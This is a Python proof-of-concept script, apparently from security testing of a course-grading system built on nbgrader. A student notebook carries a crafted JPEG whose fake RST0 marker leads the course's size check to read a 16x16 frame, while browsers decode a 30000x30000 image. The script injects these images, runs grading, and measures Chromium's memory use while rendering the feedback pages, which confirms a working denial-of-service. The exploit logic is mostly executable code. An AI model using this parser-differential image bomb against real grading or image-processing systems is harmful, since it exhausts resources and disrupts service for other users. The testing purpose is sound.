"""a02: round 40's image cap reads a JPEG's size by walking its markers, giving EVERY marker a 2-byte length.
libjpeg(-turbo) (Chrome, Firefox, PIL) reads RST0-7 and TEM as markers WITHOUT a length. A JPEG that starts
SOI, FF D0 (RST0), then a real image whose SOF0 says 30000 x 30000: the course's walker takes the next two bytes
(FF E0 of APP0) as RST0's length, jumps 65,504 bytes and finds a 16 x 16 SOF0 we put there; the browser reads the
30000 x 30000 one. mallory's extra cell displays N such images (distinct); her feedback page and aaron's are
opened in chromium and painted; the graded notebook (Formgrader's page) keeps them too. Controls aaron41u, zoe41u."""
import os, sys, base64
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"
W = int(os.environ.get("W", "30000")); H = int(os.environ.get("H", "30000")); N = int(os.environ.get("N", "4"))
BOMB = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "jpegbomb.py")).read().split("if __name__")[0] + f'''
from IPython.display import Image as _I, display
for _k in range({N}):
    _b = bomb({W}, {H}, _k + 1); display(_I(data=_b, format="jpeg"))
print("jpeg bytes", len(_b), "each, all distinct")
'''
m = honest(A)
idx = [i for i, c in enumerate(m.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory"][0]
m.cells.insert(idx + 1, nbformat.v4.new_code_cell(BOMB))
d = make_course("a02")
hand_in(d, "aaron41u", A, honest(A)); hand_in(d, "mallory41u", A, m); hand_in(d, "zoe41u", A, honest(A))
grade(d, A); scores(d)
from grader.feedback import image_size
for where in ("autograded", "feedback"):
    for s in ("mallory41u",):
        p = f"{d}/{where}/{s}/{A}/{A}." + ("ipynb" if where == "autograded" else "html")
        if not os.path.exists(p): print("missing", p); continue
        if where == "autograded":
            nb = nbformat.read(p, 4)
            imgs = [o["data"]["image/jpeg"] for c in nb.cells for o in c.get("outputs", []) if "image/jpeg" in o.get("data", {})]
            import io
            from PIL import Image as PI
            PI.MAX_IMAGE_PIXELS = None
            print(f"{where}: {len(imgs)} jpeg outputs kept; course's image_size says", [image_size("image/jpeg", x) for x in imgs],
                  "libjpeg (PIL) says", [PI.open(io.BytesIO(base64.b64decode(x))).size for x in imgs])
        else:
            print(f"{where}: page {os.path.getsize(p)} bytes, data:image/jpeg count", open(p).read().count("data:image/jpeg"))
from playwright.sync_api import sync_playwright
with sync_playwright() as pw:
    for s in ("aaron41u", "mallory41u"):
        page_path = f"{d}/feedback/{s}/{A}/{A}.html"
        b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        pg = b.new_page()
        t = time.time()
        try:
            pg.goto("file://" + page_path, timeout=300000, wait_until="load")
            n = pg.evaluate("document.images.length")
            print(f"{s}: load {time.time()-t:.1f}s, {n} images", pg.evaluate("Array.from(document.images).map(i => [i.naturalWidth, i.naturalHeight, i.width, i.height])"))
            t3 = time.time()
            for k in range(n):
                pg.evaluate(f"document.images[{k}].scrollIntoView()")
                tk = time.time(); pg.screenshot(path=f"/tmp/attack41-user-a02-{s}.png", timeout=300000)
                rss = subprocess.run("ps -eo rss,args | grep -i 'chromium.*renderer' | grep -v grep | awk '{s+=$1} END {print s}'", shell=True, capture_output=True, text=True).stdout.strip()
                print(f"  image {k} painted in {time.time()-tk:.1f}s, renderer RSS {rss} kB")
            print(f"  all painting {time.time()-t3:.1f}s")
        except Exception as e:
            print(f"{s}: {type(e).__name__}: {str(e)[:300]} after {time.time()-t:.1f}s")
        b.close()
shutil.rmtree(d)
